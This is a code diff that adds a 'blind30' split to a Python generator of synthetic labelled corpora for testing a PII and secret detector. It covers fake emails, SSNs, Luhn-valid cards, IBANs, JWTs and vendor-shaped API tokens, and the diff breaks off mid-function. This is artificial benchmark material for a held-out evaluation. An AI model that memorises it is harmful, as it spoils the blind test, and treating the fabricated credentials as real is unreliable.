@@ -113,6 +113,9 @@ Splits, kept apart by construction, not only by seed:
            the rules, their docs or history (nor the other blind splits' template sections, but for two lines of blind26's seen by accident
            after its templates were written) and never ran the engine on it; the
            lead's taxonomy; 83 text and 32 JSON document kinds of its own (see the blind29 section). Self-checked at generation; to be scored once.
+  blind30  templates B30_*/b30_*: a thirty-first split (seed 3131, fixed day 2026-12-30) written by a twenty-ninth helper who never read
+           the rules, their docs or history (nor the other blind splits' template sections) and never ran the engine on it; the
+           lead's taxonomy; 110 text and 37 JSON document kinds of its own (see the blind30 section). Self-checked at generation; to be scored once.
 
 Only the entity *value* generators (phones valid under libphonenumber's metadata, Faker
 e-mails, Luhn-valid cards, mod-97-valid IBANs, random secrets) are shared. Phones come from
@@ -121,7 +124,7 @@ libphonenumber produces and the variants people type (dots, dashes, no separator
 
 Writes OUT/corpus.jsonl and OUT/labels.jsonl in pii_corpus.py's format. Placeholder secrets
 are labelled `PLACEHOLDER` (they must be reported as placeholders, not masked as secrets).
-usage: pii_corpus_real.py OUT_DIR N_DOCS SEED dev|heldout|blind2|blind3|blind4|blind5|blind6|blind7|blind8|blind9|blind10|blind11|blind12|blind13|blind14|blind15|blind16|blind17|blind18|blind19|blind20|blind21|blind22|blind23|blind24|blind25|blind26|blind27|blind28|blind29
+usage: pii_corpus_real.py OUT_DIR N_DOCS SEED dev|heldout|blind2|blind3|blind4|blind5|blind6|blind7|blind8|blind9|blind10|blind11|blind12|blind13|blind14|blind15|blind16|blind17|blind18|blind19|blind20|blind21|blind22|blind23|blind24|blind25|blind26|blind27|blind28|blind29|blind30
 """
 import base64, datetime, json, os, random, string, sys
 
@@ -2511,9 +2514,9 @@ def main():
               "blind23": (b23_text, b23_json), "blind24": (b24_text, b24_json),
               "blind25": (b25_text, b25_json), "blind26": (b26_text, b26_json),
               "blind27": (b27_text, b27_json), "blind28": (b28_text, b28_json),
-              "blind29": (b29_text, b29_json)}
+              "blind29": (b29_text, b29_json), "blind30": (b30_text, b30_json)}
     if len(sys.argv) != 5 or sys.argv[4] not in splits:
-        raise SystemExit("usage: pii_corpus_real.py OUT_DIR N_DOCS SEED dev|heldout|blind2|blind3|blind4|blind5|blind6|blind7|blind8|blind9|blind10|blind11|blind12|blind13|blind14|blind15|blind16|blind17|blind18|blind19|blind20|blind21|blind22|blind23|blind24|blind25|blind26|blind27|blind28|blind29")
+        raise SystemExit("usage: pii_corpus_real.py OUT_DIR N_DOCS SEED dev|heldout|blind2|blind3|blind4|blind5|blind6|blind7|blind8|blind9|blind10|blind11|blind12|blind13|blind14|blind15|blind16|blind17|blind18|blind19|blind20|blind21|blind22|blind23|blind24|blind25|blind26|blind27|blind28|blind29|blind30")
     out, n, seed, split = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
     text_t, json_t = splits[split]
     os.makedirs(out, exist_ok=True)
@@ -2643,9 +2646,13 @@ def main():
                 b29_check(i, kind, doc, w, text, loc)
                 for sp in w.spans:
                     b5_counts[sp["type"]] = b5_counts.get(sp["type"], 0) + 1
+            if split == "blind30":  # blind30's own self-check (labels in order, vendor shapes, Luhn in real IIN ranges, IBAN mod-97 at country length, SSN areas, phones valid, IPs parse, JWT headers and signature lengths, armoured keys, placeholder list, no unlabelled copy of a labelled value, JSON with no backslash or control character)
+                b30_check(i, kind, doc, w, text, loc)
+                for sp in w.spans:
+                    b5_counts[sp["type"]] = b5_counts.get(sp["type"], 0) + 1
             c.write(json.dumps({"id": i, "kind": kind, "text": text}, ensure_ascii=False) + "\n")
             lab.write(json.dumps({"id": i, "spans": w.spans, "strings": w.strings}) + "\n")
-    if split in ("blind5", "blind6", "blind7", "blind8", "blind9", "blind10", "blind11", "blind12", "blind13", "blind14", "blind15", "blind16", "blind17", "blind18", "blind19", "blind20", "blind21", "blind22", "blind23", "blind24", "blind25", "blind26", "blind27", "blind28", "blind29"):  # gold spans per type (stderr: stdout stays empty like the other splits)
+    if split in ("blind5", "blind6", "blind7", "blind8", "blind9", "blind10", "blind11", "blind12", "blind13", "blind14", "blind15", "blind16", "blind17", "blind18", "blind19", "blind20", "blind21", "blind22", "blind23", "blind24", "blind25", "blind26", "blind27", "blind28", "blind29", "blind30"):  # gold spans per type (stderr: stdout stays empty like the other splits)
         for t, k in sorted(b5_counts.items(), key=lambda x: -x[1]):
             print(f"{t:<16}{k:>6}", file=sys.stderr)
 
@@ -40451,6 +40458,2793 @@ def b29_check(i, kind, doc, w, text, loc):
         b29_json_strings_clean(doc)
         assert "\\" not in text and all(ord(c) >= 32 for c in text), i
         json.loads(text)
+
+
+# ---------- blind30 (seed 3131, fixed day 2026-12-30) ----------
+# A thirty-first split, templates B30_* / b30_*, written by a twenty-ninth helper who never read the
+# detection rules, their docs or history, never ran the engine, and read of this file only the
+# docstring, the shared framework and value generators, the look-alike / placeholder / Luhn helpers,
+# main() and the blind6 taxonomy comment; of the docs only the blind28 and blind29 paragraphs, whose
+# document kinds it avoided (eleven drafted kinds were dropped to stay at 110, among them three
+# close to theirs: mutt, Postfix sasl_passwd, vault login). 110 text kinds: config of self-hosted, IoT and network tools (Nextcloud config.php,
+# grafana.ini, Alertmanager, Prometheus scrape config, wpa_supplicant, rclone, Expo app config, ESP32
+# secrets.h, Zigbee2MQTT, kubeconfig, GitLab Runner, Airflow connections, Minecraft
+# server.properties, strongSwan ipsec.secrets, NX-OS running-config, MikroTik export, Packer,
+# Vagrantfile, Salt pillar, Insomnia export, nginx LLM proxy, Vercel env pull, SOPS output, Stripe
+# CLI config, OpenDKIM keys, firebase-admin and JWT-minting code, TLS key pastes); sessions (heroku
+# config, docker inspect, kubectl describe, printenv, aws configure, cmdkey / net use, sqlplus,
+# ipmitool, hcloud / doctl, git clone, pip, backup scripts, gpg secret-key export, SSH key pastes);
+# logs (Apache, Squid, PostgreSQL, MySQL general log, kube-apiserver audit, Laravel, wrangler tail,
+# Lambda, Sysmon, FreeRADIUS debug, dnsmasq, Asterisk CDR, Dovecot, Jenkins console, Rails, axios
+# errors, .NET exceptions, gRPC metadata); data files (vCard, iCalendar, raw mail headers, pain.001,
+# OFX, EDIFACT PAXLST, GEDCOM, SQL seeds, wiki tables, HR rosters); chat and help (Discord,
+# BotFather, Teams, Q&A posts, GitHub issues, Jira comments, call-centre transcripts, READMEs, API
+# docs); paperwork in the seven languages as forms, e-mails or Markdown tables (funeral
+# arrangements, driving school, blood donation, energy switch, number porting, car insurance,
+# wedding venue, scholarships, CVs, passport appointments, pension statements, lost cards,
+# coworking, travel reimbursement, removals, music school, marina berths, season passes; US persons
+# abroad); US paperwork for en_US (W-9, 1099-NEC correction, CMS-40B, mortgage pre-approval, COBRA,
+# jury questionnaire, Real ID, life-insurance beneficiary, workers' comp, credit freeze, 4506-C,
+# PSLF). 37 JSON shapes of tool calls, tool results and API records (see B30_JSON_ALL / B30_JSON_US).
+# Labels follow the blind6 taxonomy comment. Values come from this section's own generators (phones
+# through the shared `phone`); times are offsets from the fixed day.
+
+import ipaddress  # noqa: E402
+import re  # noqa: E402
+import unicodedata  # noqa: E402
+
+B30_DAY = datetime.datetime(2026, 12, 30, 0, 0, 0)
+B30_EPOCH = int((B30_DAY - datetime.datetime(1970, 1, 1)).total_seconds())
+
+
+class B30L(L):
+    """A labelled piece kept verbatim; `region` keeps the region a phone number was drawn for."""
+    def __init__(self, typ, text, region=None):
+        self.typ, self.text, self.region = typ, text, region
+
+
+B30_MARK = re.compile(r"«([A-Za-z0-9_]+)»")
+
+
+def b30_fill(tmpl, **v):
+    """Split a template at its «name» marks, putting the given values (labelled or not) in."""
+    out, pos = [], 0
+    for m in B30_MARK.finditer(tmpl):
+        if m.start() > pos:
+            out.append(tmpl[pos:m.start()])
+        x = v[m.group(1)]
+        out.append(x if isinstance(x, L) else str(x))
+        pos = m.end()
+    if pos < len(tmpl):
+        out.append(tmpl[pos:])
+    return out
+
+
+def b30_ascii(s):
+    s = unicodedata.normalize("NFKD", s).encode("ascii", "ignore").decode().lower()
+    return "".join(ch for ch in s if ch.isalnum()) or "info"
+
+
+def b30_ts(r, fmt="iso", back_days=20):
+    t = B30_DAY - datetime.timedelta(seconds=r.randint(0, back_days * 86400))
+    if fmt == "iso":
+        return t.strftime("%Y-%m-%dT%H:%M:%S") + r.choice(["Z", ".%03dZ" % r.randint(0, 999), "+01:00"])
+    if fmt == "apache":
+        return t.strftime("%d/%b/%Y:%H:%M:%S +0000")
+    if fmt == "syslog":
+        return t.strftime("%b %d %H:%M:%S").replace(" 0", "  ", 1) if t.day < 10 else t.strftime("%b %d %H:%M:%S")
+    if fmt == "sql":
+        return t.strftime("%Y-%m-%d %H:%M:%S")
+    if fmt == "epoch":
+        return str(int((t - datetime.datetime(1970, 1, 1)).total_seconds()))
+    if fmt == "date":
+        return t.strftime("%Y-%m-%d")
+    if fmt == "dmy":
+        return t.strftime("%d.%m.%Y")
+    return t.strftime("%H:%M:%S")
+
+
+B30_CITY = {"en_US": ["Columbus", "Tucson", "Raleigh", "Boise", "Omaha", "Spokane", "Madison", "Tulsa"],
+            "en_GB": ["Leeds", "Bristol", "Norwich", "Cardiff", "York", "Derby", "Exeter", "Hull"],
+            "de_DE": ["Kassel", "Würzburg", "Freiburg", "Bremen", "Leipzig", "Mainz", "Rostock", "Ulm"],
+            "fr_FR": ["Nantes", "Rennes", "Dijon", "Lille", "Grenoble", "Angers", "Tours", "Metz"],
+            "es_ES": ["Zaragoza", "Valladolid", "Alicante", "Córdoba", "Bilbao", "Murcia", "Gijón", "Cádiz"],
+            "it_IT": ["Bergamo", "Padova", "Lecce", "Parma", "Trieste", "Perugia", "Modena", "Bari"],
+            "nl_NL": ["Zwolle", "Breda", "Leiden", "Delft", "Arnhem", "Haarlem", "Tilburg", "Groningen"]}
+B30_MAILDOM = {"en_US": ["gmail.com", "yahoo.com", "outlook.com", "comcast.net", "icloud.com", "aol.com"],
+               "en_GB": ["btinternet.com", "gmail.com", "hotmail.co.uk", "sky.com", "outlook.com", "virginmedia.com"],
+               "de_DE": ["web.de", "gmx.de", "t-online.de", "gmail.com", "posteo.de", "mailbox.org"],
+               "fr_FR": ["orange.fr", "free.fr", "laposte.net", "gmail.com", "sfr.fr", "wanadoo.fr"],
+               "es_ES": ["gmail.com", "hotmail.es", "telefonica.net", "yahoo.es", "outlook.es"],
+               "it_IT": ["libero.it", "gmail.com", "virgilio.it", "tiscali.it", "alice.it", "pec.it"],
+               "nl_NL": ["ziggo.nl", "kpnmail.nl", "gmail.com", "hotmail.nl", "xs4all.nl", "planet.nl"]}
+B30_ORGDOM = ["northwind-labs.io", "kestrel.dev", "brightmoor.co", "acmelogistics.net", "veldhuis-it.nl", "tessera.app",
+              "orbitafood.it", "helio-energie.de", "lumen-sante.fr", "cobaltpay.com", "fjordworks.eu", "quintaverde.es"]
+
+
+# ---------- blind30 entity values ----------
+
+def b30_email(f, r, loc, first=None, last=None, org=None):
+    k = r.randrange(7)
+    if k == 0:
+        return B30L("EMAIL", r.choice([f.email, f.free_email, f.company_email])())
+    fn, ln = b30_ascii(first or f.first_name()), b30_ascii(last or f.last_name())
+    local = r.choice([f"{fn}.{ln}", f"{fn[0]}{ln}", f"{fn}{r.randint(1, 99)}", f"{ln}.{fn}", f"{fn}_{ln}",
+                      f"{fn}.{ln}+{r.choice(['shop', 'news', 'bank', 'work', 'tickets'])}", f"{fn}-{ln}"])
+    dom = org or (r.choice(B30_MAILDOM[loc]) if k < 5 else r.choice(B30_ORGDOM))
+    if k == 6 and not org and first is None:
+        local = r.choice(["billing", "ops", "admin", "noreply-alerts", "it-support", "facturation", "buchhaltung", "devops"])
+    return B30L("EMAIL", f"{local}@{dom}")
+
+
+B30_PV = ["national", "national", "intl", "intl", "e164", "intl00", "dashes", "dots", "intl_dashes", "intl_trunk"]
+
+
+def b30_phone(r, loc, other=0.12, variants=None):
+    region = REGION[loc] if r.random() >= other else r.choice(OTHER_REGIONS)
+    return B30L("PHONE", phone(r, region, variants or B30_PV), region)
+
+
+B30_V4_FIRST = [23, 31, 34, 35, 46, 52, 54, 62, 77, 78, 80, 81, 82, 85, 86, 87, 88, 89, 91, 93, 94, 95, 104, 109,
+                136, 141, 145, 146, 151, 176, 178, 185, 188, 193, 194, 195, 212, 213, 217]
+
+
+def b30_ip4(r, kind=None):
+    k = kind or r.choice(["pub", "pub", "pub", "p10", "p192", "p172", "cgnat"])
+    if k == "pub":
+        v = f"{r.choice(B30_V4_FIRST)}.{r.randint(0, 255)}.{r.randint(0, 255)}.{r.randint(1, 254)}"
+    elif k == "p10":
+        v = f"10.{r.randint(0, 255)}.{r.randint(0, 255)}.{r.randint(2, 254)}"
+    elif k == "p192":
+        v = f"192.168.{r.randint(0, 20)}.{r.randint(2, 254)}"
+    elif k == "p172":
+        v = f"172.{r.randint(16, 31)}.{r.randint(0, 255)}.{r.randint(2, 254)}"
+    else:
+        v = f"100.{r.randint(64, 127)}.{r.randint(0, 255)}.{r.randint(2, 254)}"
+    return B30L("IPV4", v)
+
+
+def b30_ip6(r, kind=None):
+    k = kind or r.choice(["glob", "glob", "glob", "ll", "ula", "full"])
+    pre = r.choice(["2a01:4f8", "2a02:810d", "2001:470", "2600:1f18", "2a00:1450", "2003:e8", "2a0a:a540", "2604:a880",
+                    "2a05:d014", "2001:67c"])
+    if k == "ll":
+        v = ipaddress.IPv6Address("fe80::" + ":".join(f"{r.randrange(65536):x}" for _ in range(4))).compressed
+    elif k == "ula":
+        v = ipaddress.IPv6Address(f"fd{r.randrange(256):02x}:{r.randrange(65536):x}:{r.randrange(65536):x}::" +
+                                  f"{r.randrange(1, 65536):x}").compressed
+    else:
+        groups = pre.split(":") + [f"{r.randrange(65536):x}" for _ in range(8 - len(pre.split(":")))]
+        if r.random() < 0.4:
+            groups[-3] = groups[-2] = "0"
+        a = ipaddress.IPv6Address(":".join(groups))
+        v = a.exploded if k == "full" else a.compressed
+    return B30L("IPV6", v)
+
+
+B30_SYM = "!#$%*+-=?@^_~."
+B30_PWW = {"en": ["Harbour", "Pancake", "Lighthouse", "Blueberry", "Tractor", "Seagull", "Marmalade", "Thunder", "Wombat", "Biscuit"],
+           "de": ["Sonnenblume", "Fahrrad", "Kaffeetasse", "Schneemann", "Brezel", "Wanderweg", "Gartenzaun", "Apfelbaum"],
+           "fr": ["Papillon", "Fromage", "Chateau", "Soleil", "Baguette", "Moutarde", "Lavande", "Citron"],
+           "es": ["Mariposa", "Girasol", "Tortilla", "Palmera", "Naranjo", "Castillo", "Paella", "Zapato"],
+           "it": ["Girasole", "Tramonto", "Gelato", "Farfalla", "Limone", "Pizzeria", "Montagna", "Carciofo"],
+           "nl": ["Tulpenveld", "Fietspad", "Stroopwafel", "Molen", "Haring", "Grachten", "Kaasboer", "Dijkhuis"]}
+
+
+def b30_pw(r, lang="en", safe=False):
+    sym = "!#*+-=?@_." if safe else B30_SYM
+    words = B30_PWW[lang] + B30_PWW["en"][:3]
+    k = r.randrange(9)
+    if k == 0:
+        v = r.choice(words) + str(r.randint(1970, 2026)) + r.choice(sym)
+    elif k == 1:
+        v = rnd(r, AN + sym, r.randint(12, 22))
+    elif k == 2:
+        v = r.choice(["-", ".", "_"]).join(r.choice(words).lower() for _ in range(r.choice([3, 4])))
+    elif k == 3:
+        w = r.choice(words)
+        v = "".join({"a": "@", "e": "3", "o": "0", "i": "1", "s": "5"}.get(c, c) for c in w) + r.choice(sym) + str(r.randint(1, 99))
+    elif k == 4:
+        v = r.choice(words) + "." + r.choice(words) + "." + str(r.randint(10, 99))
+    elif k == 5:
+        v = r.choice(words).lower() + str(r.randint(1000, 9999))
+    elif k == 6:
+        v = r.choice(["Qwertz", "Azerty", "Qwerty", "Asdf"]) + r.choice(sym) + str(r.randint(10, 2026))
+    elif k == 7:
+        v = "".join(r.choice("bcdfghjkmnprstvz") + r.choice("aeiou") for _ in range(4)).capitalize() + str(r.randint(10, 99)) + r.choice(sym)
+    else:
+        v = rnd(r, string.ascii_uppercase, 2) + rnd(r, string.digits, 3) + rnd(r, string.ascii_lowercase, 5) + r.choice(sym) + rnd(r, AN, 3)
+    return B30L("PASSWORD", v)
+
+
+B30_MON = {"en": ["January", "February", "March", "April", "May", "June", "July", "August", "September", "October", "November", "December"],
+           "de": ["Januar", "Februar", "März", "April", "Mai", "Juni", "Juli", "August", "September", "Oktober", "November", "Dezember"],
+           "fr": ["janvier", "février", "mars", "avril", "mai", "juin", "juillet", "août", "septembre", "octobre", "novembre", "décembre"],
+           "es": ["enero", "febrero", "marzo", "abril", "mayo", "junio", "julio", "agosto", "septiembre", "octubre", "noviembre", "diciembre"],
+           "it": ["gennaio", "febbraio", "marzo", "aprile", "maggio", "giugno", "luglio", "agosto", "settembre", "ottobre", "novembre", "dicembre"],
+           "nl": ["januari", "februari", "maart", "april", "mei", "juni", "juli", "augustus", "september", "oktober", "november", "december"]}
+
+
+def b30_date(r, loc, y0, y1, style=None):
+    y, m, d = r.randint(y0, y1), r.randint(1, 12), r.randint(1, 28)
+    lang = loc[:2]
+    s = style or r.choice(["num", "num", "num", "long", "iso"])
+    if s == "iso":
+        return f"{y:04d}-{m:02d}-{d:02d}"
+    if s == "compact":
+        return f"{y:04d}{m:02d}{d:02d}"
+    if s == "gedcom":
+        return f"{d} {B30_MON['en'][m - 1][:3].upper()} {y}"
+    if s == "yymmdd":
+        return f"{y % 100:02d}{m:02d}{d:02d}"
+    if s == "long":
+        mn = B30_MON[lang][m - 1]
+        return {"en": (f"{mn} {d}, {y}" if loc == "en_US" else f"{d} {mn} {y}"), "de": f"{d}. {mn} {y}",
+                "fr": f"{d} {mn} {y}", "es": f"{d} de {mn} de {y}", "it": f"{d} {mn} {y}", "nl": f"{d} {mn} {y}"}[lang]
+    if loc == "en_US":
+        return f"{m:02d}/{d:02d}/{y}" if r.random() < 0.8 else f"{m}/{d}/{y}"
+    if lang == "de":
+        return f"{d:02d}.{m:02d}.{y}"
+    if lang == "nl":
+        return f"{d:02d}-{m:02d}-{y}"
+    return f"{d:02d}/{m:02d}/{y}"
+
+
+def b30_dob(r, loc, style=None, y0=1941, y1=2006):
+    return B30L("DATE_OF_BIRTH", b30_date(r, loc, y0, y1, style))
+
+
+def b30_ssn(r, style=None):
+    while True:
+        a, g, s = r.randint(1, 899), r.randint(1, 99), r.randint(1, 9999)
+        if a != 666:
+            break
+    st = style or r.choice(["dash", "dash", "dash", "space", "bare"])
+    return B30L("US_SSN", {"dash": f"{a:03d}-{g:02d}-{s:04d}", "space": f"{a:03d} {g:02d} {s:04d}", "bare": f"{a:03d}{g:02d}{s:04d}"}[st])
+
+
+B30_IINS = [("4", 16), ("4", 16), ("4", 16), ("51", 16), ("52", 16), ("53", 16), ("54", 16), ("55", 16), ("2221", 16),
+            ("2720", 16), ("2300", 16), ("34", 15), ("37", 15), ("6011", 16), ("65", 16), ("3528", 16), ("3589", 16), ("36", 14)]
+
+
+def b30_luhn_digit(body):
+    for c in "0123456789":
+        if luhn_ok(body + c):
+            return c
+
+
+def b30_card_digits(r):
+    pre, n = r.choice(B30_IINS)
+    if pre == "2300":
+        pre = str(r.randint(2221, 2720))
+    elif pre == "3528":
+        pre = str(r.randint(3528, 3589))
+    body = pre + rnd(r, string.digits, n - len(pre) - 1)
+    return body + b30_luhn_digit(body)
+
+
+def b30_card_fmt(r, d, style=None):
+    st = style or r.choice(["plain", "space", "space", "dash"])
+    if st == "plain":
+        return d
+    sep = " " if st == "space" else "-"
+    if len(d) == 15:
+        return sep.join([d[:4], d[4:10], d[10:]])
+    if len(d) == 14:
+        return sep.join([d[:4], d[4:10], d[10:]])
+    return sep.join(d[i:i + 4] for i in range(0, 16, 4))
+
+
+def b30_card(r, style=None):
+    return B30L("CREDIT_CARD", b30_card_fmt(r, b30_card_digits(r), style))
+
+
+def b30_cvc(r, card=None):
+    n = 4 if card is not None and len(re.sub(r"\D", "", card.text)) == 15 else 3
+    return B30L("GENERIC_SECRET", rnd(r, string.digits, n))
+
+
+def b30_exp(r):
+    return f"{r.randint(1, 12):02d}/{r.randint(27, 31)}"
+
+
+B30_IBAN_LEN = {"DE": 22, "GB": 22, "FR": 27, "ES": 24, "IT": 27, "NL": 18, "BE": 16, "AT": 20, "CH": 21, "IE": 22,
+                "PT": 25, "PL": 28, "LU": 20}
+B30_IBAN_HOME = {"en_US": ["GB", "IE", "DE"], "en_GB": ["GB", "GB", "IE"], "de_DE": ["DE", "DE", "AT", "CH"], "fr_FR": ["FR", "FR", "BE", "LU"],
+                 "es_ES": ["ES", "ES", "PT"], "it_IT": ["IT", "IT", "CH"], "nl_NL": ["NL", "NL", "BE"]}
+
+
+def b30_iban_check(cc, bban):
+    s = "".join(str(int(ch, 36)) for ch in bban + cc + "00")
+    return f"{98 - int(s) % 97:02d}"
+
+
+def b30_iban_raw(r, cc):
+    dg = string.digits
+    if cc == "DE":
+        bban = r.choice(["10010010", "20041155", "37040044", "50010517", "70020270", "12030000"]) + rnd(r, dg, 10)
+    elif cc in ("GB", "IE"):
+        bank = r.choice(["NWBK", "BARC", "LOYD", "HBUK", "MIDL", "MONZ"] if cc == "GB" else ["AIBK", "BOFI", "IPBS"])
+        bban = bank + rnd(r, dg, 14)
+    elif cc == "FR":
+        b, g, c = rnd(r, dg, 5), rnd(r, dg, 5), rnd(r, dg, 11)
+        key = 97 - (89 * int(b) + 15 * int(g) + 3 * int(c)) % 97
+        bban = b + g + c + f"{key:02d}"
+    elif cc == "ES":
+        e, o, acc = rnd(r, dg, 4), rnd(r, dg, 4), rnd(r, dg, 10)
+        def dc(s):
+            w = [1, 2, 4, 8, 5, 10, 9, 7, 3, 6]
+            v = 11 - sum(int(x) * y for x, y in zip(s, w)) % 11
+            return "0" if v == 11 else ("1" if v == 10 else str(v))
+        bban = e + o + dc("00" + e + o) + dc(acc) + acc
+    elif cc == "IT":
+        bban = r.choice(string.ascii_uppercase) + r.choice(["03069", "02008", "05034", "03062"]) + rnd(r, dg, 5) + rnd(r, dg, 12)
+    elif cc == "NL":
+        bban = r.choice(["ABNA", "INGB", "RABO", "SNSB", "TRIO", "ASNB", "KNAB", "BUNQ"]) + rnd(r, dg, 10)
+    elif cc == "BE":
+        x = rnd(r, dg, 10)
+        m = int(x) % 97 or 97
+        bban = x + f"{m:02d}"
+    elif cc == "CH":
+        bban = rnd(r, dg, 5) + rnd(r, dg, 12)
+    elif cc == "LU":
+        bban = rnd(r, dg, 3) + rnd(r, dg + string.ascii_uppercase, 13)
+    else:
+        bban = rnd(r, dg, B30_IBAN_LEN[cc] - 4)
+    return cc + b30_iban_check(cc, bban) + bban
+
+
+def b30_iban(r, loc, cc=None, style=None):
+    v = b30_iban_raw(r, cc or r.choice(B30_IBAN_HOME[loc]))
+    st = style or r.choice(["group", "group", "plain"])
+    if st == "group":
+        v = " ".join(v[i:i + 4] for i in range(0, len(v), 4))
+    return B30L("IBAN", v)
+
+
+def b30_bic(r, loc):
+    return r.choice({"en_US": ["CHASUS33", "BOFAUS3N"], "en_GB": ["NWBKGB2L", "BARCGB22", "MONZGB2L"], "de_DE": ["COBADEFFXXX", "DEUTDEDBXXX", "GENODEM1GLS"],
+                     "fr_FR": ["BNPAFRPPXXX", "CRLYFRPP", "SOGEFRPP"], "es_ES": ["CAIXESBBXXX", "BBVAESMMXXX"], "it_IT": ["BCITITMM", "UNCRITMM"],
+                     "nl_NL": ["INGBNL2A", "RABONL2U", "ABNANL2A"]}[loc])
+
+
+# ---------- blind30 secrets ----------
+
+B30_GH = ["ghp_", "gho_", "ghu_", "ghs_", "ghr_"]
+B30_VENDORS = ["AWS_ACCESS_KEY", "GITHUB_TOKEN", "SLACK_TOKEN", "STRIPE_KEY", "OPENAI_KEY", "ANTHROPIC_KEY", "GOOGLE_API_KEY", "JWT"]
+B30_JWT_SIG = {"HS256": 32, "HS384": 48, "HS512": 64, "RS256": 256, "RS384": 256, "PS256": 256, "ES256": 64, "ES384": 96, "EdDSA": 64}
+
+
+def b30_b64u(b):
+    return base64.urlsafe_b64encode(b).decode().rstrip("=")
+
+
+def b30_jwt(r):
+    alg = r.choice(["HS256", "HS256", "RS256", "RS256", "ES256", "HS512", "PS256", "EdDSA", "RS384", "ES384", "HS384"])
+    hdr = {"alg": alg, "typ": "JWT"} if r.random() < 0.6 else {"alg": alg, "kid": rnd(r, HEX, 16), "typ": "JWT"}
+    iat = B30_EPOCH - r.randint(0, 86400 * 3)
+    pl = r.choice([{"sub": rnd(r, string.digits, 9), "iat": iat, "exp": iat + 3600},
+                   {"iss": r.choice(["https://auth.kestrel.dev/", "https://login.tessera.app", "https://id.brightmoor.co/realms/main"]),
+                    "sub": "usr_" + rnd(r, AN, 14), "aud": r.choice(["api", "mobile", "billing-svc"]), "iat": iat, "exp": iat + 900},
+                   {"sub": "svc-" + r.choice(["ingest", "backup", "deploy", "mailer"]), "scope": r.choice(["read write", "admin", "ci:deploy"]),
+                    "jti": rnd(r, HEX, 24), "iat": iat, "exp": iat + 7200}])
+    return b30_b64u(json.dumps(hdr, separators=(",", ":")).encode()) + "." + b30_b64u(json.dumps(pl, separators=(",", ":")).encode()) + \
+        "." + b30_b64u(bytes(r.randrange(256) for _ in range(B30_JWT_SIG[alg])))
+
+
+def b30_vendor(r, typ):
+    if typ == "AWS_ACCESS_KEY":
+        v = r.choice(["AKIA", "AKIA", "AKIA", "ASIA"]) + rnd(r, string.ascii_uppercase + "234567", 16)
+    elif typ == "GITHUB_TOKEN":
+        v = ("github_pat_11" + rnd(r, string.ascii_uppercase + string.digits, 20) + "_" + rnd(r, AN, 59)) if r.random() < 0.2 \
+            else r.choice(B30_GH) + rnd(r, AN, 36)
+    elif typ == "SLACK_TOKEN":
+        p = r.choice(["xoxb", "xoxb", "xoxp", "xoxa"])
+        if p == "xoxp":
+            v = f"xoxp-{rnd(r, string.digits, 12)}-{rnd(r, string.digits, 12)}-{rnd(r, string.digits, 13)}-{rnd(r, HEX, 32)}"
+        elif p == "xoxa":
+            v = f"xoxa-2-{rnd(r, string.digits, 12)}-{rnd(r, string.digits, 13)}-{rnd(r, HEX, 64)}"
+        else:
+            v = f"xoxb-{rnd(r, string.digits, r.choice([11, 12, 13]))}-{rnd(r, string.digits, 13)}-{rnd(r, AN, 24)}"
+    elif typ == "STRIPE_KEY":
+        v = r.choice(["sk_live_", "sk_live_", "sk_test_", "rk_live_", "rk_test_"]) + (rnd(r, AN, 24) if r.random() < 0.4 else
+                                                                                     "51" + rnd(r, AN, 97))
+    elif typ == "OPENAI_KEY":
+        k = r.random()
+        if k < 0.55:
+            v = "sk-proj-" + rnd(r, AN + "_-", r.choice([48, 156]))
+        elif k < 0.75:
+            v = "sk-svcacct-" + rnd(r, AN + "_-", 156)
+        else:
+            v = "sk-" + rnd(r, AN, 20) + "T3BlbkFJ" + rnd(r, AN, 20)
+    elif typ == "ANTHROPIC_KEY":
+        v = r.choice(["sk-ant-api03-", "sk-ant-api03-", "sk-ant-api03-", "sk-ant-admin01-"]) + rnd(r, AN + "_-", 93) + "AA"
+    elif typ == "GOOGLE_API_KEY":
+        v = "AIzaSy" + rnd(r, AN + "_-", 33)
+    elif typ == "JWT":
+        v = b30_jwt(r)
+    return B30L(typ, v)
+
+
+def b30_generic(r, kind=None):
+    k = kind or r.choice(["hex32", "hex40", "hex64", "awssec", "awssec", "django", "sendgrid", "glpat", "hf", "npm", "telegram",
+                          "discord", "twilio", "hvs", "sentry", "mailchimp", "pypi", "dop", "shpat", "b64", "whk"])
+    if k == "hex32":
+        v = rnd(r, HEX, 32)
+    elif k == "hex40":
+        v = rnd(r, HEX, 40)
+    elif k == "hex64":
+        v = rnd(r, HEX, 64)
+    elif k == "awssec":
+        v = rnd(r, AN + "+/", 40)
+    elif k == "django":
+        v = "django-insecure-" + rnd(r, string.ascii_lowercase + string.digits + "!@#%^&*(-_=+)", 50) if r.random() < 0.3 else \
+            rnd(r, string.ascii_lowercase + string.digits + "!@#%^&*(-_=+)", 50)
+    elif k == "sendgrid":
+        v = "SG." + rnd(r, AN + "_-", 22) + "." + rnd(r, AN + "_-", 43)
+    elif k == "glpat":
+        v = "glpat-" + rnd(r, AN + "_-", 20)
+    elif k == "hf":
+        v = "hf_" + rnd(r, AN, 34)
+    elif k == "npm":
+        v = "npm_" + rnd(r, AN, 36)
+    elif k == "telegram":
+        v = f"{r.randint(100000000, 7999999999)}:AA{rnd(r, AN + '_-', 33)}"
+    elif k == "discord":
+        v = b30_b64u(str(r.randint(10 ** 17, 10 ** 18)).encode()) + "." + rnd(r, AN + "_-", 6) + "." + rnd(r, AN + "_-", 38)
+    elif k == "twilio":
+        v = rnd(r, HEX, 32)
+    elif k == "hvs":
+        v = "hvs." + rnd(r, AN + "_-", 24) if r.random() < 0.5 else "hvs.CAES" + rnd(r, AN + "_-", 88)
+    elif k == "sentry":
+        v = "sntrys_" + rnd(r, AN, 60)
+    elif k == "mailchimp":
+        v = rnd(r, HEX, 32) + "-us" + str(r.randint(1, 21))
+    elif k == "pypi":
+        v = "pypi-AgEIcHlwaS5vcmc" + rnd(r, AN + "_-", 60)
+    elif k == "dop":
+        v = "dop_v1_" + rnd(r, HEX, 64)
+    elif k == "shpat":
+        v = r.choice(["shpat_", "shpss_"]) + rnd(r, HEX, 32)
+    elif k == "b64":
+        v = base64.b64encode(bytes(r.randrange(256) for _ in range(32))).decode()
+    else:
+        v = "whk_" + rnd(r, AN, 32)
+    return B30L("GENERIC_SECRET", v)
+
+
+def b30_sec(r, pool=None):
+    """A random secret: one of the vendor shapes or an unbranded one."""
+    t = r.choice(pool or (B30_VENDORS + ["GENERIC_SECRET", "STRIPE_KEY", "SLACK_TOKEN", "ANTHROPIC_KEY", "ANTHROPIC_KEY", "OPENAI_KEY", "JWT"]))
